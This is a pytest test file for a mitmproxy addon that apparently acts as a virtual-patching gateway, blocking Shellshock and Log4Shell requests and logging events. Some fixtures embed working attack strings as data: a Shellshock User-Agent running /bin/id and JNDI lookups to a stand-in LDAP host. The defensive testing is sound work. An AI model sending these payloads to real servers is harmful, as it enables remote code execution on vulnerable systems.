"""The vpatch mitmproxy addon and the exchange judge, without sockets (mitmproxy's test flows)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from mitmproxy import http
from mitmproxy.test import tflow

from gateway.config import BUNDLED_RULES, GatewayConfig
from gateway.engine import Engine
from gateway.events.eve import Event, to_eve
from gateway.match.rules import load_rules
from gateway.tls.addon import VpatchAddon, offered_version
from gateway.tls.inspect import ExchangeJudge, build_body
from gateway.tls.proxy import proxy_engine_config
from gateway.tls.service import BlockAnswer, TlsService

RULES = [
    BUNDLED_RULES / "cve-2014-6271-shellshock.yaml",
    BUNDLED_RULES / "cve-2021-44228-log4shell.yaml",
]


class Sink:
    def __init__(self) -> None:
        self.events: list[Event] = []

    def emit(self, event: Event) -> None:
        self.events.append(event)


class Counts:
    def __init__(self) -> None:
        self.values: dict[str, int] = {}

    def add(self, name: str, n: int = 1) -> None:
        self.values[name] = self.values.get(name, 0) + n


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(load_rules(RULES), proxy_engine_config(GatewayConfig()))


def _addon(engine: Engine, **fields: Any) -> tuple[VpatchAddon, Sink, Counts]:
    service = TlsService("198.18.0.20", cert=Path("c"), key=Path("k"), **fields)
    sink, counts = Sink(), Counts()
    return VpatchAddon(service, ExchangeJudge(engine), sink, counts, True), sink, counts


def _flow(path: str = "/", headers: dict[str, str] | None = None, body: bytes = b"") -> Any:
    flow = tflow.tflow()
    flow.request = http.Request.make(
        "POST" if body else "GET", f"https://198.18.0.20{path}", body, headers or {}
    )
    flow.client_conn.peername = ("198.18.0.10", 40000)
    flow.client_conn.tls_version = "TLSv1.3"
    flow.client_conn.sni = "vpatch-lab"
    flow.server_conn.address = ("198.18.0.20", 443)
    flow.server_conn.tls_version = None  # not contacted yet (lazy)
    return flow


def _run(addon: VpatchAddon, flow: Any) -> None:
    addon.requestheaders(flow)
    if flow.response is None:
        addon.request(flow)


def test_an_attack_in_a_header_gets_the_block_page_and_an_event(engine: Engine) -> None:
    addon, sink, counts = _addon(engine)
    flow = _flow("/cgi-bin/x", {"User-Agent": "() { :; }; /bin/id"})
    _run(addon, flow)
    assert flow.response is not None and flow.response.status_code == 403
    assert flow.response.headers["Connection"] == "close"
    (event,) = sink.events
    assert "CVE-2014-6271" in event.cves and event.src_port == 40000 and event.dest_port == 443
    eve = to_eve(event)
    assert eve["tls"] == {"sni": "vpatch-lab", "version": "TLSv1.3", "server_version": ""}
    assert counts.values["blocked"] == 1


def test_an_attack_in_the_body_is_judged_before_the_server_is_contacted(engine: Engine) -> None:
    addon, sink, _ = _addon(engine)
    body = b"a=${jndi:ldap://e.example/x}"
    flow = _flow("/login", {"Content-Type": "application/x-www-form-urlencoded"}, body)
    addon.requestheaders(flow)
    assert flow.response is None  # the head alone is clean
    addon.request(flow)
    assert flow.response is not None and flow.response.status_code == 403
    assert any("CVE-2021-44228" in e.cves for e in sink.events)


def test_reset_answer_kills_the_flow(engine: Engine) -> None:
    addon, _, _ = _addon(engine, blocked=BlockAnswer.RESET)
    flow = _flow("/", {"X-Api": "${jndi:ldap://e.example/a}"})
    _run(addon, flow)
    assert flow.response is None and flow.error is not None  # killed


def test_a_benign_request_passes_with_forwarded_headers_when_asked(engine: Engine) -> None:
    addon, sink, _ = _addon(engine, forwarded=True)
    flow = _flow("/index.html", {"User-Agent": "curl/8"})
    _run(addon, flow)
    assert flow.response is None and flow.error is None and not sink.events
    assert flow.request.headers["X-Forwarded-For"] == "198.18.0.10"
    assert flow.request.headers["Forwarded"] == "for=198.18.0.10;proto=https"


def test_too_many_header_fields_are_refused_with_an_event(engine: Engine) -> None:
    addon, sink, counts = _addon(engine, max_headers=8)
    flow = _flow("/", {f"X-{i}": "1" for i in range(12)})
    _run(addon, flow)
    assert flow.response is not None and flow.response.status_code == 403
    assert sink.events[0].signature_id == 9300031 and counts.values["header_limits"] == 1


def test_responses_are_judged_and_exchanges_finished(engine: Engine) -> None:
    addon, _, _ = _addon(engine)
    flow = _flow("/")
    _run(addon, flow)
    flow.response = http.Response.make(200, b"hello", {"Content-Type": "text/plain"})
    addon.responseheaders(flow)
    addon.response(flow)
    assert addon.judge.open_exchanges == 0


def test_chunked_bodies_are_presented_chunked_and_cut_at_the_depth() -> None:
    assert build_body(b"abcdef", True, 100, True) == b"6\r\nabcdef\r\n0\r\n\r\n"
    assert build_body(b"abcdef", True, 4, True) == b"4\r\nabcd"
    assert build_body(b"abcdef", False, 4, True) == b"abcd"


def test_offered_version_reads_supported_versions_and_skips_grease() -> None:
    ext = (43, bytes([6, 0x0A, 0x0A, 0x03, 0x04, 0x03, 0x03]))  # GREASE, 1.3, 1.2
    assert offered_version(b"\x03\x03" + b"\x00" * 32, [ext]) == 0x0304
    assert offered_version(b"\x03\x01" + b"\x00" * 32, []) == 0x0301
